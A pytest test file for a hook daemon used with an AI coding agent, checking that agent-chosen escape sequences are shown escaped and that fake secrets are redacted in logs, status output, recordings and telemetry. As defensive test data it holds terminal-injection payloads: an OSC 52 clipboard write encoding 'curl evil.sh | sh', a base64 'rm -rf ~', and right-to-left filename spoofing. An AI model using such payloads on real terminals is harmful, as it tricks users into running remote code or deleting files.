"""What hookd shows, through the console script and a real daemon: escape sequences an agent
chose are printed escaped (and kept exact in ``--json``), and a secret in a tool input is
masked in ``hookd log`` (table, ``--json``, ``--why``), ``hookd whatif``, ``hookd status``, a
recording (with the module's own ``redact`` patterns), ``daemon.log`` (a hook's traceback
included) and the OpenTelemetry spans."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.daemon.support import HOOKD, Box, hookd, wait_for_line
from tests.daemon.test_decision_log import bash, call, records
from tests.support.otlp_receiver import attributes, otlp_receiver

WAIT_S = 30.0
MODULE = """
from hookd import HookMatcher, deny

redact = [r"acme_[0-9a-f]{12}", r"customer=(?P<secret>[0-9]{6,})"]


async def guard(input_data, tool_use_id, context):
    command = input_data["tool_input"].get("command", "")
    if command.startswith("explode"):
        raise RuntimeError(f"cannot parse {command}")
    if command.startswith(("deploy", "printf")):
        return deny(f"not here: {command}")
    return None


hooks = {"PreToolUse": [HookMatcher(matcher="Bash", hooks=[guard])]}
"""
LENIENT = """
from hookd import HookMatcher


async def lenient(input_data, tool_use_id, context):
    return None


hooks = {"PreToolUse": [HookMatcher(matcher="Bash", hooks=[lenient])]}
"""

#: An agent-chosen command: clear the screen, set the title, write the clipboard (OSC 52),
#: a C1 CSI (U+009B) and a right-to-left override.
ATTACK = (
    "printf done\x1b[2J\x1b[H\x1b]0;you have been owned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
    "\x9b31mred\u202etxt.exe"
)
#: What a terminal would obey: C0 but newline and tab, DEL, C1, bidi overrides and isolates.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

#: Fake secrets in a tool input; the last two only the module's own patterns match.
PASSWORD = "Vq7tR2mZp9xK"
GITHUB = "ghp_R8kW2nQ5vX1mZ7bT4yH9cL3pF6jD0sA2eG5u"
JWT = (
    "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjaS1ib3QiLCJleHAiOjE3OTk5OTk5OTl9."
    "Q2xhdWRlLWZha2Utc2lnbmF0dXJlLW5vdC1yZWFs"
)
MODULE_TOKEN = "acme_5f3a9c0b7d21"
CUSTOMER = "84720193"
SECRETS = (PASSWORD, GITHUB, JWT, MODULE_TOKEN, CUSTOMER)
COMMAND = (
    f"deploy --db postgres://app:{PASSWORD}@db.internal/shop --token {GITHUB} "
    f"-H 'Authorization: Bearer {JWT}' {MODULE_TOKEN} customer={CUSTOMER}"
)


@pytest.fixture
def hooks_file(box: Box) -> Iterator[Path]:
    target = box.project / ".claude" / "hooks.py"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(MODULE)
    (box.project / "lenient.py").write_text(LENIENT)
    yield target
    hookd(box, "down")


def printable(text: str) -> str:
    """``text``, asserted to hold nothing a terminal would obey."""
    found = RAW.search(text)
    assert found is None, f"raw {found.group()!r} in {text!r}"
    return text


def clean(text: str) -> str:
    """``text``, asserted to hold none of the secrets and a mask."""
    assert [s for s in SECRETS if s in text] == [], text
    assert "[redacted]" in text
    return text


def shown(box: Box, *args: str, status: int = 0) -> str:
    done = hookd(box, *args)
    assert done.returncode == status, done.stderr
    return done.stdout


@pytest.mark.req("R-L40", "R-L41")
def test_escape_sequences_an_agent_chose_are_printed_escaped(box: Box, hooks_file: Path) -> None:
    answer = call(box, hooks_file, bash(ATTACK))
    assert answer["hookSpecificOutput"]["permissionDecisionReason"] == f"not here: {ATTACK}"
    (record,) = records(box, hooks_file, 1)  # --json: the exact strings
    assert record["input"]["tool_input"]["command"] == ATTACK
    assert record["reason"] == f"not here: {ATTACK}"
    hooks = str(hooks_file)
    table = printable(shown(box, "log", hooks))
    assert "not here: printf done\\x1b[2J\\x1b[H\\x1b]0;you have" in table
    why = printable(shown(box, "log", hooks, "--why"))
    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x9b31mred\\u202etxt.exe" in why
    assert json.loads(printable(shown(box, "log", hooks, "--json")))["reason"] == record["reason"]
    whatif = printable(shown(box, "whatif", "lenient.py", hooks, status=3))
    assert "was: deny by guard: not here: printf done\\x1b[2J" in whatif
    assert "now: none" in whatif and "1 call replayed, 1 changed: deny->none 1" in whatif
    change = json.loads(
        shown(box, "whatif", "lenient.py", hooks, "--json", status=3).split("\n")[0]
    )
    assert change["input"]["tool_input"]["command"] == ATTACK
    assert change["was"]["reason"] == f"not here: {ATTACK}"


def _recorded_calls(box: Box, hooks_file: Path, out: Path) -> str:
    """Two calls through ``hookd record``'s daemon: a denial quoting the secrets, and a hook
    that raises with them in its message; the recording's text."""
    inputs = []
    for n, command in enumerate((COMMAND, f"explode {COMMAND}")):
        inputs.append(box.root / f"input-{n}.json")
        inputs[-1].write_text(json.dumps(bash(command)))
    calls = " && ".join(f"{HOOKD} call PreToolUse --hooks {hooks_file} < {path}" for path in inputs)
    done = hookd(box, "record", "--via", "daemon", "--out", str(out), "--", "sh", "-c", calls)
    assert done.returncode == 0, done.stderr
    assert f"2 hook requests recorded into {out}" in done.stderr
    return out.read_text()


@pytest.mark.req("R-L44", "R-L45", "R-L46")
def test_a_secret_in_a_tool_input_is_masked_wherever_it_is_shown(
    box: Box, hooks_file: Path, tmp_path: Path
) -> None:
    installed = hookd(box, "install", str(hooks_file), "--no-start")
    assert installed.returncode == 0, installed.stderr
    recording = clean(_recorded_calls(box, hooks_file, tmp_path / "session.jsonl"))
    assert "customer=[redacted]" in recording  # the module's pattern: its group secret only
    entries = [json.loads(line) for line in recording.splitlines()[1:]]
    asked = [e["msg"]["tool_input"]["command"] for e in entries if e["dir"] == "cli->hookd"]
    assert asked[0] == (
        "deploy --db postgres://app:[redacted]@db.internal/shop --token [redacted] "
        "-H 'Authorization: Bearer [redacted]' [redacted] customer=[redacted]"
    )
    (state,) = box.daemon_dirs()
    raised = wait_for_line(state / "daemon.log", "hook.raised", WAIT_S)
    assert "Traceback" in json.loads(raised)["traceback"]
    clean(raised)
    clean((state / "daemon.log").read_text())
    logged = records(box, hooks_file, 2)
    assert logged[0]["input"]["tool_input"]["command"] == asked[0]
    hooks = str(hooks_file)
    for args in ([], ["--json"], ["--why", str(logged[0]["id"])], ["--why", str(logged[1]["id"])]):
        clean(shown(box, "log", hooks, *args))
    clean(shown(box, "whatif", "lenient.py", hooks, status=3))
    clean(shown(box, "whatif", "lenient.py", hooks, "--json", status=3))


BROKEN = """
raise RuntimeError(
    "bad settings \\x1b[2J\\x1b]52;c;cm0gLXJmIH4=\\x07\\x9b31m password=Vq7tR2mZp9xK"
)
"""


@pytest.mark.req("R-L40", "R-L41", "R-L44", "R-L45")
def test_status_is_printed_escaped_and_redacted(box: Box, hooks_file: Path) -> None:
    folder = box.project / "checkout\x1b]0;owned\x07\x9b31m\u202e"  # a cloned folder's name
    folder.mkdir()
    module = folder / "hooks.py"
    module.write_text(MODULE)
    done = hookd(box, "up", str(module))
    assert done.returncode == 0, done.stderr
    (state,) = box.daemon_dirs()
    log = state / "daemon.log"
    wait_for_line(log, "reload.watching", WAIT_S)
    module.write_text(textwrap.dedent(BROKEN))
    failed = clean(wait_for_line(log, "reload.failed", WAIT_S))
    assert "password=[redacted]" in failed
    status = clean(printable(shown(box, "status", str(module))))
    assert status.startswith(f"{box.project}/checkout\\x1b]0;owned\\x07\\x9b31m\\u202e/hooks.py")
    (line,) = [line for line in status.splitlines() if "reload error:" in line]
    assert "bad settings \\x1b[2J\\x1b]52;c;cm0gLXJmIH4=\\x07\\x9b31m password=[redacted]" in line
    (found,) = json.loads(shown(box, "status", str(module), "--json"))
    assert found["module"] == str(module)  # --json: the exact text
    assert "password=[redacted]" in found["reload_error"]
    assert PASSWORD not in json.dumps(found)


@pytest.mark.req("R-L47")
def test_span_attributes_are_redacted(box: Box, hooks_file: Path) -> None:
    fast = {"OTEL_BSP_SCHEDULE_DELAY": "100", "OTEL_METRIC_EXPORT_INTERVAL": "200"}
    with otlp_receiver() as (url, received):
        started = hookd(box, "up", str(hooks_file), "--otel-endpoint", url, env=box.env(**fast))
        assert started.returncode == 0, started.stderr
        call(box, hooks_file, bash("ls", session=f"ci {MODULE_TOKEN} token={PASSWORD}"))
        assert hookd(box, "down", str(hooks_file)).returncode == 0  # flushes the spans
        (span,) = [attributes(span.attributes) for span in received.spans()]
    assert span["session.id"] == "ci [redacted] token=[redacted]"


CONSOLE = """
import os, sys
import structlog
from hookd import logs

fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT, 0o600)
logs.configure(fmt=sys.argv[2], fd=fd)
logs.redact_with([r"acme_[0-9a-f]{12}"])
structlog.get_logger("t").error(
    "hook.raised", error="boom \\x1b]0;owned\\x07", token="Vq7tR2mZp9xK",
    traceback="Traceback (most recent call last):\\n  ...\\nRuntimeError: "
    "\\x1b[2J acme_5f3a9c0b7d21 --password Vq7tR2mZp9xK\\n",
)
"""


@pytest.mark.req("R-L45")
@pytest.mark.parametrize("fmt", ["console", "json"])
def test_every_log_line_is_redacted_and_a_terminals_is_escaped(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / "daemon.log"
    subprocess.run([sys.executable, "-c", CONSOLE, str(out), fmt], check=True, timeout=60)
    text = clean(out.read_text())
    if fmt == "console":
        printable(text)
        assert "RuntimeError: \\x1b[2J [redacted]" in text  # a traceback is printed as it is
        assert "error='boom \\\\x1b]0;owned\\\\x07'" in text  # a value: escaped, then repr()
        assert "\n  ...\n" in text  # the traceback keeps its lines
    else:
        line: dict[str, Any] = json.loads(text)
        assert line["token"] == "[redacted]" and line["error"] == "boom \x1b]0;owned\x07"
        assert line["traceback"].endswith("\x1b[2J [redacted] --password [redacted]\n")
